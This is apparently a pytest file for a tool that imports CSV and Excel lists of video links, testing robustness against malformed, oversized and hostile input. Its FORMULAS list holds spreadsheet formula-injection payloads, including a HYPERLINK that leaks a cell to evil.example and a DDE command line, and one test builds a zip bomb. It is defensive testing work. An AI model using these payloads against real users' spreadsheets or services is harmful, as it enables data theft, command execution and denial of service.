"""Lists made to break readers: bad rows are named by their number, every other row is taken."""

import zipfile
from pathlib import Path

import pytest

from sightline.work.view import entity

LINK = "https://youtu.be/abc{:08}"


def test_twenty_thousand_rows_and_a_bad_one(take, here, box) -> None:
    rows = [f"Film {n},{LINK.format(n)},2014-04-{n % 28 + 1:02}" for n in range(20_000)]
    rows[12_344] = 'Film "12344,x,y,z,too,many'
    (box / "list.csv").write_text("title,url,date\n" + "\n".join(rows) + "\n")
    done = take(box)
    assert 19_999 == len([a for a in done.added if a.sha256 is None])
    assert 1 == len(done.refused)
    assert "row 12346" in done.refused[0].fault
    assert done.refused[0].path.endswith("list.csv row 12346")
    assert done.refused[0].todo


def test_each_line_in_its_own_encoding(take, here, box) -> None:
    head = b"title,url\n"
    lines = [
        "عنوان الفيلم الاول,".encode() + LINK.format(1).encode(),
        "عنوان الفيلم الثاني,".encode("cp1256") + LINK.format(2).encode(),
        "Привет из города,".encode("cp1251") + LINK.format(3).encode(),
        b"broken \xff\xfe\x81 bytes," + LINK.format(4).encode(),
    ]
    (box / "list.csv").write_bytes(
        head
        + b"\n".join([*lines, *("سطر اخر,".encode() + LINK.format(n).encode() for n in range(5, 12))])
        + b"\n"
    )
    done = take(box)
    rows = [a for a in done.added if a.sha256 is None]
    assert 11 == len(rows)
    titles = [entity(here, a.code).of("title")[0].statement.value for a in rows]
    assert "عنوان الفيلم الاول" == titles[0]
    assert "عنوان الفيلم الثاني" == titles[1]
    assert "Привет из города" == titles[2]


FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1)',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
)


def test_formulas_are_text_and_nothing_is_computed(take, here, box) -> None:
    rows = "".join('"{}",{}\n'.format(f.replace('"', '""'), LINK.format(n)) for n, f in enumerate(FORMULAS))
    (box / "list.csv").write_text("title,url\n" + rows)
    done = take(box)
    titles = {entity(here, a.code).of("title")[0].statement.value for a in done.added if a.sha256 is None}
    assert {f.strip() for f in FORMULAS} == titles


def test_formulas_of_a_workbook(take, here, box) -> None:
    import openpyxl

    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(["title", "url"])
    for n, formula in enumerate(FORMULAS[:2]):
        sheet.append([formula, LINK.format(n)])
    book.save(box / "list.xlsx")
    done = take(box)
    views = [entity(here, a.code).of("title")[0].statement for a in done.added if a.sha256 is None]
    assert set(FORMULAS[:2]) == {v.value for v in views}
    assert all("formula without a stored result" in (v.note or "") for v in views)


def test_dates_that_cannot_be_told_apart_are_kept_unread_with_why(take, box) -> None:
    (box / "list.csv").write_text(
        f"title,url,date\na,{LINK.format(1)},01/02/2014\nb,{LINK.format(2)},03/04/2014\n"
    )
    (box / "other.csv").write_text(f"title,url\nc,{LINK.format(3)}\n")
    done = take(box)
    unclear = next(a for a in done.added if a.path.endswith("list.csv"))
    assert unclear.sha256 is not None
    assert "'01/02/2014' is 1 February 2014 or 2 January 2014" in (unclear.fault or "")
    assert 1 == len([a for a in done.added if a.sha256 is None])


def test_cells_of_a_megabyte(take, here, box) -> None:
    (box / "list.csv").write_text(
        "title,url,notes\n" + "".join(f"big {n},{LINK.format(n)},{'x' * (1 << 20)}\n" for n in range(3))
    )
    done = take(box)
    rows = [a for a in done.added if a.sha256 is None]
    assert 3 == len(rows)
    assert (1 << 20) in {len(str(s.statement.value)) for s in entity(here, rows[0].code).statements}


@pytest.mark.parametrize("name", ["list.csv", "list.xlsx"])
def test_characters_that_no_database_holds(take, here, box, name: str) -> None:
    odd = ["\x01\x02 control", "\u202e turned", "\ufffe none", "\U0001f600" * 40, "a\u0300" * 500]
    if name.endswith("csv"):
        text = "title,url\n" + "".join(f"{o},{LINK.format(n)}\n" for n, o in enumerate(odd))
        (box / name).write_text(text)
    else:
        spelled = {"\x01": "_x0001_", "\x02": "_x0000_", "\ufffe": "_xD800_"}
        told = ["".join(spelled.get(c, c) for c in o) for o in odd]
        cells = "".join(
            f'<row><c t="inlineStr"><is><t>{o}'
            f'</t></is></c><c t="inlineStr"><is><t>{LINK.format(n)}</t></is></c></row>'
            for n, o in enumerate(told)
        )
        head = '<row><c t="inlineStr"><is><t>title</t></is></c><c t="inlineStr"><is><t>url</t></is></c></row>'
        write_book(box / name, f"<sheetData>{head}{cells}</sheetData>")
    done = take(box)
    rows = [a for a in done.added if a.sha256 is None]
    assert 5 == len({a.code for a in rows}), done.refused


def write_book(path: Path, inner: str) -> None:
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    package = "http://schemas.openxmlformats.org/package/2006"
    kind = "application/vnd.openxmlformats-officedocument.spreadsheetml"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as book:
        book.writestr(
            "[Content_Types].xml",
            f'<Types xmlns="{package}/content-types"><Default Extension="rels" '
            'ContentType="application/vnd.openxmlformats'
            f'-package.relationships+xml"/><Override PartName="/xl/workbook.xml" ContentType="{kind}.sheet.main+xml"/>'
            f'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="{kind}.worksheet+xml"/></Types>',
        )
        book.writestr(
            "_rels/.rels",
            f'<Relationships xmlns="{package}/relationships"><Relationship Id="r1" Type="{office}/officeDocument" '
            'Target="xl/workbook.xml"/></Relationships>',
        )
        book.writestr(
            "xl/workbook.xml",
            f'<workbook xmlns="{main}" xmlns:r="{office}"><sheets>'
            '<sheet name="a" sheetId="1" r:id="r1"/></sheets></workbook>',
        )
        book.writestr(
            "xl/_rels/workbook.xml.rels",
            f'<Relationships xmlns="{package}/relationships"><Relationship Id="r1" Type="{office}/worksheet" '
            'Target="worksheets/sheet1.xml"/></Relationships>',
        )
        book.writestr("xl/worksheets/sheet1.xml", f'<worksheet xmlns="{main}">{inner}</worksheet>')


def test_a_bomb_named_as_a_workbook_and_a_list_beside_it(take, box) -> None:
    with zipfile.ZipFile(box / "bomb.xlsx", "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/worksheets/sheet1.xml", b"\x00" * (120 << 20))
    (box / "list.csv").write_text(f"title,url\nc,{LINK.format(3)}\n")
    done = take(box)
    bomb = next(a for a in done.added if a.path.endswith("bomb.xlsx"))
    assert "as zip bombs do" in (bomb.fault or "")
    assert 1 == len([a for a in done.added if a.sha256 is None])


@pytest.mark.parametrize(
    "cells",
    [
        '<row r="99999999999"><c><v>1</v></c></row>',
        '<row><c r="ZZZZZZ1"><v>1</v></c></row>',
        "<row>" * 20_000,
    ],
)
def test_workbooks_whose_cells_lie_far_out(take, box, cells: str) -> None:
    write_book(box / "far.xlsx", f"<sheetData>{cells}</sheetData>")
    (box / "z.txt").write_text("z")
    done = take(box)
    assert ["far.xlsx", "z.txt"] == [Path(a.path).name for a in done.added]
    assert done.added[0].fault


@pytest.mark.parametrize(
    "text",
    [
        "",
        "\n\n\n",
        "title,url\n",
        "title,url\n" + '"' * 10_000,
        "," * 100_000,
        "title,url\n" + "a,https://youtu.be/" + "b" * 100_000 + "\n",
        "title,url\na,https://user:pass@[::1\n",
        "title,url,lat,lon\na,https://youtu.be/abcdefghijk,1e999,NaN\n",
        "title,url,date\na,https://youtu.be/abcdefghijk,9999999999-99-99\n",
        "title,url\n" + "a," + "https://youtu.be/abcdefghijk " * 5_000 + "\n",
        "\ufeff\ufefftitle,url\r\r\n\r\na,https://youtu.be/abcdefghijk",
    ],
)
def test_lists_that_are_hardly_lists_are_kept(take, box, text: str) -> None:
    (box / "list.csv").write_bytes(text.encode())
    done = take(box)
    assert [str(box / "list.csv")] == [a.path for a in done.added if a.sha256 is not None]
